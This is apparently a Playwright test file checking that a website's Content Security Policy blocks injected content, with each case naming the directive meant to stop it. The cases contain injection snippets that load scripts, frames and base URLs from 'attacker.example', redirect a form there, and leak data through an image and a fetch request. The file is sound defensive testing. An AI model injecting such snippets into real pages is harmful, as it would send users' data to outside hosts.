import { expect, test, type Page } from "@playwright/test";

type Attack = { path: string; directive: string; attack: () => unknown };

/** Injections that the policy of a page must block, each with the directive that does so. */
const attacks: Record<string, Attack> = {
  "an inline script": {
    path: "/",
    directive: "script-src-elem",
    attack: () => {
      const script = document.createElement("script");
      script.textContent = "document.title = 'attacked'";
      document.body.append(script);
    },
  },
  "a script from elsewhere": {
    path: "/",
    directive: "script-src-elem",
    attack: () => {
      const src = "https://attacker.example/script.js";
      document.body.append(Object.assign(document.createElement("script"), { src }));
    },
  },
  "a form that sends elsewhere": {
    path: "/contacto/",
    directive: "form-action",
    attack: () => {
      const form = document.forms[0];
      form?.setAttribute("action", "https://attacker.example/");
      form?.submit();
    },
  },
  "a form where none belongs": {
    path: "/",
    directive: "form-action",
    attack: () => {
      const form = Object.assign(document.createElement("form"), { action: "/" });
      document.body.append(form);
      form.submit();
    },
  },
  "a picture that leaks data": {
    path: "/",
    directive: "img-src",
    attack: () => {
      new Image().src = "https://attacker.example/?leaked";
    },
  },
  "a request that leaks data": {
    path: "/escribir-reseña/",
    directive: "connect-src",
    attack: () => fetch("https://attacker.example/?leaked").catch(() => undefined),
  },
  "the form service where no form is": {
    path: "/",
    directive: "connect-src",
    attack: () => fetch("http://127.0.0.1:8010/f/demo").catch(() => undefined),
  },
  "a frame from elsewhere": {
    path: "/contacto/",
    directive: "frame-src",
    attack: () => {
      const src = "https://attacker.example/";
      document.body.append(Object.assign(document.createElement("iframe"), { src }));
    },
  },
  "another base of all addresses": {
    path: "/",
    directive: "base-uri",
    attack: () => {
      const href = "https://attacker.example/";
      document.head.append(Object.assign(document.createElement("base"), { href }));
    },
  },
};

/** Records in `window.blocked` the directives by which the policy blocks something. */
const recordBlocked = () => {
  const seen: string[] = Object.assign(window, { blocked: [] }).blocked;
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
    seen.push(effectiveDirective),
  );
};

const blocked = (page: Page) =>
  page.evaluate(() => (window as { blocked?: string[] }).blocked ?? []);

test("the content policy stops what is injected into a page", async ({ page }) => {
  let isRequested = false;
  await page.route("https://attacker.example/**", (route) => {
    isRequested = true;
    return route.abort();
  });
  await page.addInitScript(recordBlocked);
  let opened = "";
  let before = 0;
  const byPath = Object.entries(attacks).sort(([, a], [, b]) => a.path.localeCompare(b.path));
  for (const [name, { path, directive, attack }] of byPath) {
    if (path !== opened) {
      await page.goto(path, { waitUntil: "domcontentloaded" });
      [opened, before] = [path, 0];
    }
    await page.evaluate(attack);
    await expect.poll(async () => (await blocked(page)).slice(before), name).toEqual([directive]);
    before += 1;
    expect(await page.title(), name).not.toBe("attacked");
    expect(isRequested, name).toBe(false);
  }
});
